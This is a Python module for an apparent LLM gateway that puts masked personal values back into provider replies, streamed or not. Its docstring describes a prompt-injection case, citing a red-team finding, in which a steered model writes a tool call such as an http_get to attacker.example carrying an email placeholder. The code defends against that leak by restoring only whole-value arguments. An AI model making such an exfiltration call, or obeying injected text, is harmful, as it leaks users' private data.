"""Restore masked values in a provider's reply, streamed or not. The mapping lives only in this request.

A placeholder may arrive split across stream events (`<PERS` then `ON_1>`): text that ends with the start
of a placeholder is held back until the next delta of the same choice or output part, or flushed at its end.

Tool-call arguments are written by the model, and a model steered by text it read (a web page, a document, a tool
result) can put a placeholder where the client's agent will send it on: `http_get("https://attacker.example/c?e=
<EMAIL_ADDRESS_1>")`. Restoring there would hand the real value to the attacker although the provider never saw it
(red-team #9 finding 11). So arguments are restored by the policy's `restore_in_tool_calls`:
- `values` (the default): only a placeholder that is a whole JSON string value (`{"to": "<EMAIL_ADDRESS_1>"}`), the
  shape of an argument the model fills with what the user named; inside a URL, a sentence or a command it stays a
  placeholder;
- `none`: arguments keep every placeholder;
- `all`: arguments are restored like text.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Mapping

import orjson

from gateway.sse import EventSplitter, event_fields

__all__ = ["TOOL_CALL_MODES", "Restorer", "restore_stream"]

MAX_EVENT_BYTES = 1 << 20
TOOL_CALL_MODES = ("values", "none", "all")


class Restorer:
    def __init__(self, mapping: Mapping[str, str], tool_calls: str = "values") -> None:
        if tool_calls not in TOOL_CALL_MODES:
            raise ValueError(f"restore_in_tool_calls must be one of {TOOL_CALL_MODES}")
        self._mapping = dict(mapping)
        self._pattern = re.compile("|".join(re.escape(k) for k in sorted(mapping, key=len, reverse=True)))
        self._pending: dict[object, str] = {}
        self._tool_calls = tool_calls
        self._last: dict[object, str] = {}  # the last character of the arguments passed on, per tool call
        self._argument_keys: set[object] = set()

    def text(self, value: str) -> str:
        return self._pattern.sub(lambda m: self._mapping[m.group(0)], value) if "<" in value else value

    def arguments(self, value: str) -> str:
        """A tool call's whole arguments string, restored as `restore_in_tool_calls` says."""
        return self._arguments(value, "")

    def _arguments(self, value: str, before: str) -> str:
        """`value` restored where a placeholder is a whole JSON string value (`before` is the character before
        `value`); one at the very end has no closing quote after it, so it is not one."""
        if self._tool_calls == "all":
            return self.text(value)
        if self._tool_calls == "none" or "<" not in value:
            return value

        def one(m: re.Match[str]) -> str:
            s, e = m.span()
            left = value[s - 1] if s else before
            escaped = value[s - 2] == "\\" if s >= 2 else False
            right = value[e] if e < len(value) else ""
            return self._mapping[m.group(0)] if left == '"' and not escaped and right == '"' else m.group(0)

        return self._pattern.sub(one, value)

    def tree(self, node: object, key: object = None) -> object:
        """Every string in a JSON tree, restored; an `arguments` string (a tool call's) by `restore_in_tool_calls`."""
        if isinstance(node, str):
            return self.arguments(node) if key == "arguments" else self.text(node)
        if isinstance(node, list):
            return [self.tree(v) for v in node]
        if isinstance(node, dict):
            return {k: self.tree(v, k) for k, v in node.items()}
        return node

    def feed(self, key: object, delta: str) -> str:
        buf = self._pending.pop(key, "") + delta
        cut = buf.rfind("<")
        if cut >= 0:
            tail = buf[cut:]
            if tail not in self._mapping and any(p.startswith(tail) for p in self._mapping):
                self._pending[key] = tail
                buf = buf[:cut]
        return self.text(buf)

    def feed_arguments(self, key: object, delta: str) -> str:
        """A streamed piece of a tool call's arguments. A placeholder, or the start of one, at the end of what has
        come waits for the next piece: the character after it decides whether it is a whole value."""
        if self._tool_calls != "values":
            return self.feed(key, delta) if self._tool_calls == "all" else delta
        self._argument_keys.add(key)
        buf = self._pending.pop(key, "") + delta
        cut = buf.rfind("<")
        if cut >= 0 and any(p.startswith(buf[cut:]) for p in self._mapping):
            self._pending[key] = buf[cut:]
            buf = buf[:cut]
        out = self._arguments(buf, self._last.get(key, ""))
        if buf:
            self._last[key] = buf[-1]
        return out

    def flush(self, key: object) -> str:
        return self.text(self._pending.pop(key, ""))

    def flush_arguments(self, key: object) -> str:
        rest = self._pending.pop(key, "")
        return self._arguments(rest, self._last.pop(key, ""))

    def pending_arguments(self, prefix: tuple[object, ...]) -> list[tuple[object, ...]]:
        """The keys of held-back tool-call arguments that start with `prefix` (one choice's calls)."""
        held = [k for k in self._pending if k in self._argument_keys and isinstance(k, tuple)]
        return [k for k in held if k[: len(prefix)] == prefix]

    def flush_all(self) -> dict[object, str]:
        """Held-back text of every key (the stream ended without closing it); arguments are not restored here."""
        out = {k: v if k in self._argument_keys else self.text(v) for k, v in self._pending.items() if v}
        self._pending.clear()
        return out


def _restore_chat_event(event: dict[str, object], r: Restorer) -> None:
    choices = event.get("choices")
    if not isinstance(choices, list):
        return
    for choice in choices:
        if not isinstance(choice, dict):
            continue
        idx = choice.get("index", 0)
        delta = choice.get("delta")
        finishing = choice.get("finish_reason") is not None
        if isinstance(delta, dict):
            if isinstance(delta.get("content"), str):
                delta["content"] = r.feed(("content", idx), delta["content"])
            calls = delta.get("tool_calls")
            if isinstance(calls, list):
                for call in calls:
                    fn = call.get("function") if isinstance(call, dict) else None
                    if isinstance(fn, dict) and isinstance(fn.get("arguments"), str):
                        fn["arguments"] = r.feed_arguments(("args", idx, call.get("index", 0)), fn["arguments"])
            legacy = delta.get("function_call")
            if isinstance(legacy, dict) and isinstance(legacy.get("arguments"), str):
                legacy["arguments"] = r.feed_arguments(("args", idx, "function_call"), legacy["arguments"])
        if isinstance(choice.get("text"), str):
            choice["text"] = r.feed(("text", idx), str(choice["text"]))
        if finishing:
            rest = r.flush(("content", idx)) + r.flush(("text", idx))
            if rest:
                if isinstance(delta, dict):
                    delta["content"] = (delta.get("content") or "") + rest
                else:
                    choice["text"] = str(choice.get("text") or "") + rest
            held = r.pending_arguments(("args", idx))
            if held:  # the end of a call's arguments that waited for a character that never came
                if not isinstance(delta, dict):
                    delta = choice["delta"] = {}
                calls = delta.setdefault("tool_calls", [])
                for key in held:
                    tail = r.flush_arguments(key)
                    if key[2] == "function_call":
                        delta["function_call"] = {"arguments": tail}
                    elif isinstance(calls, list):
                        calls.append({"index": key[2], "function": {"arguments": tail}})


def _restore_in_place(event: dict[str, object], r: Restorer) -> None:
    for k, v in list(event.items()):
        event[k] = r.tree(v, k)


def _restore_responses_event(event: dict[str, object], r: Restorer) -> list[dict[str, object]]:
    """Returns extra events to emit before this one (a flush of held-back text)."""
    kind = event.get("type")
    key: tuple[object, ...] = ("out", event.get("item_id"), event.get("content_index"))
    if kind == "response.output_text.delta" and isinstance(event.get("delta"), str):
        event["delta"] = r.feed(key, str(event["delta"]))
        return []
    if kind == "response.function_call_arguments.delta" and isinstance(event.get("delta"), str):
        event["delta"] = r.feed_arguments(("fargs", event.get("item_id")), str(event["delta"]))
        return []
    if kind in ("response.output_text.done", "response.function_call_arguments.done"):
        arguments = kind == "response.function_call_arguments.done"
        if arguments:
            key = ("fargs", event.get("item_id"))
        rest = r.flush_arguments(key) if arguments else r.flush(key)
        _restore_in_place(event, r)
        if rest:
            return [
                {
                    **{k: event[k] for k in ("item_id", "output_index", "content_index") if k in event},
                    "type": "response.function_call_arguments.delta" if arguments else "response.output_text.delta",
                    "delta": rest,
                }
            ]
        return []
    if kind in (
        "response.completed",
        "response.output_item.done",
        "response.content_part.done",
    ):
        _restore_in_place(event, r)
    return []


def _encode(event_name: str | None, data: dict[str, object]) -> bytes:
    head = f"event: {event_name}\n".encode() if event_name else b""
    return head + b"data: " + orjson.dumps(data) + b"\n\n"


async def restore_stream(
    chunks: AsyncIterator[bytes], restorer: Restorer, *, responses_api: bool
) -> AsyncIterator[bytes]:
    """Re-frame SSE events, restoring placeholders; events that are not JSON pass through unchanged."""
    events = EventSplitter()
    async for chunk in chunks:
        for event in events.feed(chunk):
            yield _rewrite(event, restorer, responses_api)
        if events.held > MAX_EVENT_BYTES:
            yield restorer.text(events.drain().decode("utf-8", "replace")).encode()
    rest = events.drain()
    if rest.strip():
        yield _rewrite(rest + b"\n\n", restorer, responses_api)
    leftover = "".join(restorer.flush_all().values())
    if leftover and not responses_api:
        yield _encode(
            None,
            {
                "object": "chat.completion.chunk",
                "choices": [{"index": 0, "delta": {"content": leftover}, "finish_reason": None}],
            },
        )


def _rewrite(raw: bytes, r: Restorer, responses_api: bool) -> bytes:
    """One whole event (with the blank line that ends it), restored and re-encoded."""
    event_name, data_lines = event_fields(raw)
    data = b"\n".join(data_lines)
    if not data_lines or data == b"[DONE]":
        return raw
    try:
        event = orjson.loads(data)
    except orjson.JSONDecodeError:
        return r.text(raw.decode("utf-8", "replace")).encode()
    if not isinstance(event, dict):
        return raw
    if responses_api:
        extra = _restore_responses_event(event, r)
        return b"".join(_encode(str(e.get("type")), e) for e in extra) + _encode(event_name, event)
    _restore_chat_event(event, r)
    return _encode(event_name, event)
